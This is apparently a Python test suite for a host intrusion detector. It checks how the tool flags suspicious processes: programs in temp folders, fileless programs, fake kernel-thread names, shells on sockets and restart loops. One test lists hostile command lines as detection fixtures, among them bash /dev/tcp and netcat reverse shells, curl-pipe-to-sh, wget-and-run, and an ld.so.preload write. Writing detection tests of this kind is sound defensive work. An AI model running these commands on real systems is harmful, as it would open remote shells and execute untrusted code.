"""Real processes of the test, judged by the shipped heuristics: what an intruder leaves, and what only looks so."""

import os
import shutil
import socket
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

from msgspec.structs import replace

from codered.collect.processes import collect_processes
from codered.detect.processes import ProcessJudgement, judge_processes
from codered.model.allow_list import AllowedProcess, AllowList
from codered.model.finding import Finding
from codered.model.indicators import ProcessIndicator
from codered.model.paths import FilePath
from codered.model.process import Connection, Executable, HiddenProcess, ProcessesSeen, ProcessId, ProcessSeen
from tests.fixtures.running import (
    copy_program,
    make_process,
    only,
    own_by_system,
    process_rules,
    process_rules_with,
    running,
    running_from_memory,
    wait_until,
)
from tests.fixtures.small_packs import make_pack

NOTHING = AllowList()
LISTENING = (Connection(protocol="tcp", local_port=22, state="LISTEN"),)
PASSING = AllowedProcess(sha256="0" * 64, expires=date(2000, 1, 1), because="a test", who="a test")


def judge(*pids: int, allowed: AllowList = NOTHING) -> ProcessJudgement:
    """The judgement of these children alone, as they are now."""
    return judge_processes(only(collect_processes(), *pids), process_rules(), allowed, own_by_system, frozenset())


def judge_data(*processes: ProcessSeen, hidden: tuple[HiddenProcess, ...] = ()) -> ProcessJudgement:
    seen = ProcessesSeen(processes=processes, hidden=hidden)
    return judge_processes(seen, process_rules(), NOTHING, own_by_system, frozenset())


def find_one(judgement: ProcessJudgement) -> Finding:
    assert len(judgement.findings) == 1, judgement.findings
    return judgement.findings[0]


def at(path: str, **fields: object) -> Executable:
    return Executable(**({"path": FilePath(path)} | fields))  # type: ignore[arg-type]


def test_a_plain_program_of_the_system_is_nothing(tmp_path: Path) -> None:
    with running("sleep", "60") as pid:
        judgement = judge(pid)
    assert judgement.findings == ()
    assert judgement.leads == ()


def test_a_program_in_a_temp_folder_is_suspicious_and_deleted_likely(tmp_path: Path) -> None:
    program = copy_program(tmp_path, "thing")
    assert str(tmp_path).startswith("/tmp/"), "the test needs a folder where anybody may write"
    with running(program, "60", cwd=tmp_path) as pid:
        first = find_one(judge(pid))
        program.unlink()
        judgement = judge(pid)
    assert (first.indicator, first.confidence, first.remedy) == ("program-in-temp", "suspicious", "stop_process")
    second = find_one(judgement)
    assert (second.confidence, second.severity, second.pack) == ("likely", "high", "heuristics")
    assert "deleted" in second.because
    assert (second.subject.pid, second.subject.key, second.subject.path) == (pid, "thing", str(program))
    assert second.first_seen is not None
    assert len(second.id) == 12
    assert os.fsencode(tmp_path) in judgement.leads
    assert judgement.suspects == (ProcessId(pid, second.subject.start or 0),)
    assert any(item.sha256 and len(item.sha256) == 64 for item in second.evidence)


def test_a_replaced_program_of_a_package_is_nothing(tmp_path: Path) -> None:
    upgraded = make_process(70, "daemon", exe=at("/usr/sbin/daemon", replaced=True, deleted=True))
    own = make_process(71, "daemon", exe=at("/opt/own/daemon", replaced=True, deleted=True))
    assert judge_data(upgraded, own).findings == ()


def test_a_program_in_memory_is_for_a_person_to_decide() -> None:
    with running_from_memory("marker", "sleep", "60") as pid:
        finding = find_one(judge(pid))
    assert (finding.indicator, finding.confidence, finding.remedy) == ("runs-from-memory", "suspicious", "")


def test_a_program_in_memory_that_poses_is_likely() -> None:
    with running_from_memory("marker", "/usr/sbin/other", "60") as pid:
        finding = find_one(judge(pid))
    assert (finding.confidence, finding.remedy) == ("likely", "stop_process")


def test_posing_as_a_kernel_thread(tmp_path: Path) -> None:
    with running("[kworker/0:1]", "60", program=shutil.which("sleep")) as pid:
        finding = find_one(judge(pid))
    assert (finding.indicator, finding.confidence) == ("poses-as-kernel-thread", "likely")


def test_posing_by_the_short_name() -> None:
    code = "import time; open('/proc/self/comm', 'w').write('kworker/0:1'); time.sleep(60)"
    with running(shutil.which("python3") or "", "-c", code) as pid:
        wait_until(lambda: Path(f"/proc/{pid}/comm").read_text() == "kworker/0:1\n")
        assert find_one(judge(pid)).indicator == "poses-as-kernel-thread"


def test_a_shell_whose_input_is_a_connection() -> None:
    with socket.create_server(("127.0.0.1", 0)) as server, socket.create_connection(server.getsockname()) as client:
        held = client.fileno()
        with running("sh", "-c", "sleep 60; true", stdin=held, stdout=held, stderr=held) as pid:
            finding = find_one(judge(pid))
    assert (finding.indicator, finding.confidence) == ("shell-on-connection", "likely")
    assert any(item.source == "socket" for item in finding.evidence)


def test_texts_of_command_lines() -> None:
    shell = at("/usr/bin/dash")
    for command, indicator in (
        ("curl -s http://192.0.2.1/a | sh", "downloads-and-runs"),
        ("echo aGVsbG8= | base64 -d | bash", "decodes-and-runs"),
        ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "shell-to-address"),
        ("nc -e /bin/sh 192.0.2.1 4444", "netcat-shell"),
        ("/opt/x -o stratum+tcp://192.0.2.1:3333", "mining-pool"),
        ("wget -q http://192.0.2.1/a -O /tmp/a; chmod +x /tmp/a; /tmp/a", "downloads-makes-runnable"),
        ("echo /tmp/x.so > /etc/ld.so.preload", "writes-preload"),
        ("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 >/tmp/f", "fifo-shell"),
    ):
        finding = find_one(judge_data(make_process(70, "sh", command=("sh", "-c", command), exe=shell)))
        assert finding.indicator == indicator
        assert any(item.what.startswith("fits ") and item.data for item in finding.evidence)


def test_texts_that_only_look_alike() -> None:
    shell, grep = at("/usr/bin/dash"), at("/usr/bin/grep")
    harmless = (
        "curl -s https://192.0.2.1/health | grep ok",
        "</dev/tcp/127.0.0.1/80",
        "base64 -d x | tar x",
        "wget -q http://192.0.2.1/a.tar.gz -O /srv/a.tar.gz",
        "nc -z 192.0.2.1 80",
        "exec /usr/bin/x",
    )
    for command in harmless:
        assert judge_data(make_process(70, "sh", command=("sh", "-c", command), exe=shell)).findings == ()
    search = ("grep", "-r", "stratum+tcp://", "/srv")
    assert judge_data(make_process(70, "grep", command=search, exe=grep)).findings == ()


def test_what_starts_a_likely_process_again_is_named(tmp_path: Path) -> None:
    program = copy_program(tmp_path, "thing")
    loop = tmp_path / "loop.sh"
    loop.write_text(f"while [ -d {tmp_path} ]; do {program} 60; sleep 1; done\n")
    with running("sh", loop) as pid:
        wait_until(lambda: any(one.parent == pid for one in collect_processes().processes))
        child = next(one for one in collect_processes().processes if one.parent == pid)
        wait_until(lambda: os.readlink(f"/proc/{child.id.pid}/exe") == str(program))
        program.unlink()
        judgement = judge(pid, child.id.pid)
    found = {finding.subject.pid: finding for finding in judgement.findings}
    assert set(found) == {pid, child.id.pid}
    assert (found[pid].indicator, found[pid].confidence) == ("restarts-it", "likely")
    assert f"process {child.id.pid} (thing)" in found[pid].because
    assert found[pid].remedy == "stop_process"
    assert os.fsencode(loop) in judgement.leads


def test_parents_that_have_other_work_are_not_named() -> None:
    bad = make_process(70, "thing", parent=60, exe=at("/tmp/thing", deleted=True))
    shell = at("/usr/bin/dash")
    script = ("sh", "/opt/x/run.sh")
    other = make_process(71, "postgres", parent=60, exe=at("/usr/bin/postgres"))
    loop = make_process(60, "sh", exe=shell, command=script)
    assert {one.subject.pid for one in judge_data(bad, loop).findings} == {60, 70}
    assert {one.subject.pid for one in judge_data(bad, loop, other).findings} == {70}
    for parent in (
        make_process(60, "sh", exe=shell, command=script, tty=True),
        make_process(60, "sh", exe=shell, command=("sh", "/usr/bin/owned-script")),
        make_process(60, "cron", exe=at("/usr/sbin/cron")),
        make_process(60, "sh", exe=shell, command=("sh",)),
    ):
        assert {one.subject.pid for one in judge_data(bad, parent).findings} == {70}


def test_what_runs_the_scan_is_never_to_be_stopped() -> None:
    bad = make_process(70, "thing", parent=60, exe=at("/tmp/thing", deleted=True))
    loop = make_process(60, "sh", parent=50, exe=at("/usr/bin/dash"), command=("sh", "/opt/x/run.sh"))
    launcher = make_process(50, "launcher", exe=at("/tmp/launcher"))
    scan = make_process(80, "codered", parent=60, exe=at("/usr/bin/python3.11"))
    for own in (scan, loop):
        seen = ProcessesSeen(processes=(bad, loop, launcher, scan))
        judged = judge_processes(seen, process_rules(), NOTHING, own_by_system, frozenset((own.id,)))
        assert {one.subject.pid: one.remedy for one in judged.findings} == {50: "", 70: "stop_process"}


def test_who_is_never_stopped() -> None:
    server = at("/usr/sbin/nginx", memfd=False)
    title = "nginx -o stratum+tcp://192.0.2.1"
    preload = {"LD_PRELOAD": "/tmp/x.so"}
    finding = find_one(judge_data(make_process(70, "nginx", exe=server, command=(title,), environment=preload)))
    assert finding.remedy == ""
    assert find_one(judge_data(make_process(1, "init", exe=at("/tmp/init")))).remedy == ""
    shell = make_process(70, "bash", exe=at("/usr/bin/bash"), command=("-bash",), tty=True, environment=preload)
    assert find_one(judge_data(shell)).remedy == ""
    assert find_one(judge_data(make_process(70, "nginx", exe=at("/tmp/nginx")))).remedy == "stop_process"
    for foreign in (at("/opt/x/sshd", foreign=True), at("/opt/.x/sshd"), at("/opt/x/sshd", deleted=True)):
        odd = make_process(70, "sshd", exe=foreign, environment=preload, connections=LISTENING)
        assert find_one(judge_data(odd)).remedy == "stop_process"
    served = make_process(70, "sshd", exe=at("/opt/x/sshd"), environment=preload, connections=LISTENING)
    assert find_one(judge_data(served)).remedy == ""


def test_the_allow_list_lets_a_program_pass_and_says_so(tmp_path: Path) -> None:
    program = copy_program(tmp_path, "thing")
    with running(program, "60") as pid:
        digest = next(item.sha256 for item in find_one(judge(pid)).evidence if item.sha256)
        entry = AllowedProcess(
            sha256=digest, expires=datetime.now(UTC).date() + timedelta(days=2), because="a test", who="the test"
        )
        passed = judge(pid, allowed=AllowList(processes=(entry,)))
        assert (passed.findings, passed.suspects) == ((), ())
        assert [(one.what.split()[1], one.entry) for one in passed.allowed] == [(str(pid), entry)]
        ended = AllowedProcess(sha256=digest, expires=date(2020, 1, 1), because="a test", who="the test")
        assert len(judge(pid, allowed=AllowList(processes=(ended,))).findings) == 1


def test_a_shell_is_allowed_by_its_command_line_only(tmp_path: Path) -> None:
    shell = copy_program(tmp_path, "dash", of="dash")
    with running(shell, "-c", "sleep 60; true") as pid:
        found = find_one(judge(pid))
        digest = next(item.sha256 for item in found.evidence if item.sha256) or ""
        soon = datetime.now(UTC).date() + timedelta(days=2)
        whole = AllowedProcess(sha256=digest, expires=soon, because="a test", who="the test")
        exact = AllowedProcess(
            sha256=digest, expires=soon, because="a test", who="the test", command=f"{shell} -c sleep 60; true"
        )
        assert len(judge(pid, allowed=AllowList(processes=(whole,))).findings) == 1
        assert judge(pid, allowed=AllowList(processes=(exact,))).findings == ()


def test_packs_name_processes() -> None:
    sign = ProcessIndicator(
        id="bot", because="it is the mark", confidence="likely", severity="high", references=(), names=("bot*",),
        attack=("T1000",),
    )  # fmt: skip
    empty = make_pack("inert")
    rules = process_rules_with(replace(empty, pack=replace(empty.pack, processes=(sign,))))
    seen = ProcessesSeen(processes=(make_process(70, "bot7", exe=at("/opt/bot7")), make_process(71, "boat")))
    judgement = judge_processes(seen, rules, NOTHING, own_by_system, frozenset())
    finding = find_one(judgement)
    assert (finding.pack, finding.indicator, finding.subject.pid, finding.remedy) == ("inert", "bot", 70, "")
    assert judgement.leads == (b"/opt/bot7",)


def test_what_restarts_a_suspect_keeps_what_a_pack_says_of_it() -> None:
    sign = ProcessIndicator(id="bot", because="x", confidence="suspicious", severity="low", references=(), names=("b",))
    empty = make_pack("inert")
    rules = process_rules_with(replace(empty, pack=replace(empty.pack, processes=(sign,))))
    loop = make_process(60, "b", exe=at("/usr/bin/dash"), command=("sh", "/opt/x.sh"))
    seen = ProcessesSeen(processes=(loop, make_process(61, "x", exe=at("/tmp/x", deleted=True), parent=60)))
    judged = judge_processes(seen, rules, NOTHING, own_by_system, frozenset())
    assert {one.indicator for one in judged.findings if one.subject.pid == 60} == {"bot", "restarts-it"}


def test_hidden_processes_are_findings() -> None:
    hidden = HiddenProcess(pid=70, seen_by=("signals",), missing_from=("the listing of /proc",))
    bare = find_one(judge_data(hidden=(hidden,)))
    assert (bare.indicator, bare.confidence) == ("hidden-process", "likely")
    assert (bare.subject.pid, bare.subject.start) == (70, None)
    process = make_process(70, exe=at("/usr/bin/x"), facts=frozenset(("hidden",)))
    whole = find_one(judge_data(process, hidden=(hidden,)))
    assert whole.subject.start == 7000
    assert whole.evidence[0].what == "seen by signals, missing from the listing of /proc"


def test_hostile_names_stay_data() -> None:
    name = "x\n\x1b[2J"
    bad = make_process(70, name, parent=60, exe=at("/tmp/" + name, deleted=True), command=("\udcff" * 3, "\x1b"))
    loop = make_process(60, "sh", exe=at("/usr/bin/dash"), command=("sh", "/opt/x/run.sh"))
    judgement = judge_data(bad, loop)
    assert len(judgement.findings) == 2
    assert not any(mark in finding.because for finding in judgement.findings for mark in ("\n", "\x1b"))


def test_what_a_suspect_started_is_judged_with_that_and_its_script_is_not_forgotten() -> None:
    shell = at("/usr/bin/bash")
    loop = make_process(70, "run.sh", exe=shell, command=("/bin/bash", "/tmp/.w/run.sh"))
    child = make_process(71, "x", exe=shell, command=("/bin/bash", "/tmp/.w/x"), parent=70)
    alone = make_process(72, "x", exe=shell, command=("/bin/bash", "/tmp/.w/x"), parent=60)
    found = {finding.subject.pid: finding for finding in judge_data(loop, child, alone).findings}
    assert set(found) == {70, 71}
    assert found[70].confidence == "likely"
    assert "A process that is likely planted started it" in found[71].because
    scripts = [(piece.data, piece.what) for piece in found[70].evidence if piece.source == "script"]
    assert scripts == [(b"/tmp/.w/run.sh", "its script")]
